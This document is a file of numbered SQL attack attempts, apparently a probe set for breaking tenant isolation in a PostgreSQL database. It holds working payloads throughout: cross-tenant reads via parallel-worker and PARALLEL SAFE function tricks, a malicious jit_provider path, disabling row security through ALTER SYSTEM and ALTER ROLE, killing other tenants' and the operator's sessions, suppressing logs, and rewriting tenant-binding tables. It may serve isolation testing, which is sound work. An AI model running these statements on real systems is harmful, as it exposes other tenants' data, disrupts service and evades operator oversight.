SELECT attname, attgenerated, attidentity, pg_get_expr(adbin, adrelid) FROM pg_attribute LEFT JOIN pg_attrdef ON adrelid=attrelid AND adnum=attnum WHERE attrelid='sidemirror.memories'::regclass AND attnum>0;
INSERT INTO sidemirror.memories (tenant_id, project_id) OVERRIDING USER VALUE SELECT '{foreign}', project_id FROM sidemirror.memories LIMIT 1;
INSERT INTO sidemirror.memories (tenant_id, project_id) OVERRIDING SYSTEM VALUE SELECT '{foreign}', project_id FROM sidemirror.memories LIMIT 1;

-- attempt: p207: parallel workers: binding lost in the worker
SET force_parallel_mode=on;
SET debug_parallel_query=on;
SET parallel_setup_cost=0;
SET parallel_tuple_cost=0;
SET min_parallel_table_scan_size=0;
SET max_parallel_workers_per_gather=4;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p208: parallel workers: a function wrongly marked PARALLEL SAFE that sets the tenant
CREATE FUNCTION pg_temp.ps() RETURNS text LANGUAGE plpgsql PARALLEL SAFE AS $$ BEGIN RETURN set_config('sidemirror.tenant_id','{foreign}',false); END $$;
SET parallel_setup_cost=0;
SET min_parallel_table_scan_size=0;
SELECT t::text FROM sidemirror.memories t WHERE pg_temp.ps() IS NOT NULL AND t.tenant_id::text='{foreign}';

-- attempt: p209: JIT settings: inlining, dumps and compile cost
SET jit=on;
SET jit_above_cost=0;
SET jit_inline_above_cost=0;
SET jit_optimize_above_cost=0;
SET jit_dump_bitcode=on;
SET jit_provider='/tmp/evil';
EXPLAIN (ANALYZE) SELECT count(*) FROM sidemirror.memories t WHERE t::text <> 'x';

-- attempt: p210: statement logging settings turned up or off
SET log_statement='all';
SET log_min_duration_statement=0;
SET log_min_messages=debug5;
SET log_min_error_statement=panic;
SET log_duration=off;
SET log_parameter_max_length_on_error=-1;
SET debug_print_parse=on;
SELECT name, setting FROM pg_settings WHERE name LIKE 'log\_%' AND source='session';

-- attempt: p211: ALTER SYSTEM and ALTER DATABASE settings
ALTER SYSTEM SET row_security=off;
SELECT pg_reload_conf();
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET sidemirror.tenant_id = %L', current_database(), '{foreign}'); END $$;
ALTER ROLE ALL SET row_security=off;
SELECT set_config('config_file','/tmp/x',false);

-- attempt: p212: pg_cancel_backend on B's and the operator's sessions
SELECT pid, usename, pg_cancel_backend(pid) FROM pg_stat_activity WHERE datname=current_database() AND usename IN ('{foreign_role}','owner') AND pid<>pg_backend_pid();

-- attempt: p213: pg_terminate_backend on B's sessions
SELECT pid, pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname=current_database() AND usename='{foreign_role}' AND pid<>pg_backend_pid();

-- attempt: p214: pg_signal_backend granted, background workers signalled (CVE-2023-5870)
GRANT pg_signal_backend TO CURRENT_USER;
SELECT pid, backend_type, pg_cancel_backend(pid) FROM pg_stat_activity WHERE datname=current_database() AND backend_type IN ('autovacuum worker','parallel worker') AND pid<>pg_backend_pid();

-- attempt: p215: memory contexts of other backends, log noise
SELECT pid, pg_log_backend_memory_contexts(pid) FROM pg_stat_activity WHERE usename='{foreign_role}' AND datname=current_database();
SELECT count(*) FROM pg_backend_memory_contexts;
SELECT pg_stat_reset();
SELECT pg_stat_reset_single_table_counters('sidemirror.memories'::regclass);

-- attempt: p216: CHECKPOINT, VACUUM FULL, REINDEX, CLUSTER
SET lock_timeout='5s';
CHECKPOINT;
VACUUM FULL sidemirror.memories;
REINDEX TABLE sidemirror.memories;
CLUSTER sidemirror.memories;
SELECT pg_switch_wal();
SELECT pg_wal_replay_pause();

-- attempt: p217: ALTER ROLE self SET the tenant setting, then a new session
ALTER ROLE CURRENT_USER SET sidemirror.tenant_id='{foreign}';
ALTER ROLE CURRENT_USER SET app.tenant_id='{foreign}';
\connect -
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
ALTER ROLE CURRENT_USER RESET sidemirror.tenant_id;
ALTER ROLE CURRENT_USER RESET app.tenant_id;

-- attempt: p218: ALTER ROLE self SET role and row_security, then a new session
ALTER ROLE CURRENT_USER SET role='owner';
ALTER ROLE CURRENT_USER SET row_security=off;
\connect -
SELECT current_user, session_user;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
ALTER ROLE CURRENT_USER RESET role;
ALTER ROLE CURRENT_USER RESET row_security;

-- attempt: p219: own role granted to B, so that membership checks take B's rows for A's
DO $$ BEGIN EXECUTE format('GRANT %I TO %I', current_user, '{foreign_role}'); END $$;
SELECT r.rolname, m.member::regrole FROM pg_auth_members m JOIN pg_roles r ON r.oid=m.roleid WHERE r.rolname=current_user;
UPDATE sidemirror.memories SET tenant_id = '{own}' WHERE tenant_id::text = '{foreign}' RETURNING tenant_id, project_id;
DO $$ BEGIN EXECUTE format('REVOKE %I FROM %I', current_user, '{foreign_role}'); END $$;

-- attempt: p220: binding table written directly: rows that tie a role to a tenant
DO $$ DECLARE c record; n bigint; BEGIN FOR c IN SELECT a.attrelid::regclass r, a.attname t, b.attname u FROM pg_attribute a JOIN pg_attribute b ON a.attrelid=b.attrelid JOIN pg_class k ON k.oid=a.attrelid WHERE k.relkind='r' AND k.relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) AND a.attname LIKE '%tenant%' AND b.attname ~ 'role|login|user' AND b.atttypid IN ('text'::regtype,'name'::regtype,'varchar'::regtype,'regrole'::regtype) LOOP BEGIN EXECUTE format('UPDATE %s SET %I=%L WHERE %I::text=current_user', c.r, c.t, '{foreign}', c.u); GET DIAGNOSTICS n = ROW_COUNT; RAISE NOTICE '% bound rows changed in %', n, c.r; EXECUTE format('INSERT INTO %s (%I,%I) VALUES (%L,current_user)', c.r, c.t, c.u, '{foreign}'); RAISE NOTICE 'bound in %', c.r; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', c.r, SQLERRM; END; END LOOP; END $$;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
